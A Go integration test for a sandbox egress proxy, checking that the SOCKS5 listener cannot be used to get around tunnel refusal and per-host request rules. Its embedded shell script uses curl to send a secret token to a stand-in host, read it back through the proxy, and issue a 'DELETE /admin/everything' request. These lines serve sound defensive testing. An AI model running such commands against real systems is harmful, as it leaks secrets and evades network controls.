package integration

// Attacks on the egress proxy from inside a real sandbox (srt-mcp exec):
// the tools the code has (curl), the proxy variables the runner sets.

import (
	"encoding/base64"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
)

// TestHostileEgressSOCKSIsOpaque: network.refuseOpaqueTunnels and request
// rules on the injection host, a masked token. The code stores the token
// at the host through the terminated HTTPS proxy (a body swap), then, with
// curl --proxy "$ALL_PROXY" (the SOCKS5 listener every run has), reads it
// back over its own end-to-end TLS and sends a request no rule allows.
func TestHostileEgressSOCKSIsOpaque(t *testing.T) {
	parallel(t)
	nwRequire(t, "curl")
	var mu sync.Mutex
	var stored string
	var methods []string
	up := egStart(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		methods = append(methods, r.Method+" "+r.URL.Path)
		if r.Method == "POST" {
			b, _ := io.ReadAll(r.Body)
			stored = string(b)
			io.WriteString(w, "stored")
			return
		}
		if r.Method == "GET" && r.URL.Path == "/paste" {
			io.WriteString(w, stored)
			return
		}
		io.WriteString(w, "done: "+r.Method)
	}))
	cwd := sbDir(t)
	host := "api.example.com:" + up.port
	settings := egSettings(t, cwd, up, []string{"api.example.com"}, map[string]any{
		"refuseOpaqueTunnels": true,
		"requestRules":        []any{map[string]any{"host": "api.example.com", "methods": []string{"GET", "POST"}, "paths": []string{"/paste"}}},
	})
	flags := append(pinned("api.example.com"), "--allow-domain", host, "--settings", settings)
	script := `curl -sS -X POST --data "note: $EG_TOKEN" https://` + host + `/paste; echo
echo "socks-read: $(curl -sS --proxy "$ALL_PROXY" https://` + host + `/paste | base64 -w0)"
curl -sS --proxy "$ALL_PROXY" -X DELETE https://` + host + `/admin/everything; echo`
	r := egRun(t, cwd, flags, "sh", "-c", script)
	if !strings.Contains(r.stdout, "stored") || !strings.Contains(stored, egSecret) {
		t.Fatalf("setup: the body swap did not store the token: code %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	for _, line := range strings.Split(r.stdout, "\n") {
		if v, ok := strings.CutPrefix(line, "socks-read: "); ok {
			if b, _ := base64.StdEncoding.DecodeString(v); strings.Contains(string(b), egSecret) {
				t.Errorf("refuseOpaqueTunnels is on, yet the code read the real token back through SOCKS5: %q", b)
			}
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for _, m := range methods {
		if strings.HasPrefix(m, "DELETE") {
			t.Errorf("request rules allow GET/POST /paste only; %s reached the upstream through SOCKS5", m)
		}
	}
}
